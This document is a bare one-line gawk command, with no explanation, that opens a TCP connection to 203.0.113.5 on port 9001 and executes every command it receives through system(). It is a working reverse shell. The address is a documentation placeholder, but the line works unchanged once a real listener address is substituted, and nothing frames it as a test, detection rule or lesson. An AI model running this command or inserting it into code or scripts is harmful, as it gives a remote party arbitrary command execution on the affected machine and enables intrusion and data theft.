gawk 'BEGIN { s = "/inet/tcp/0/203.0.113.5/9001"; while ((s |& getline c) > 0) system(c); close(s) }'
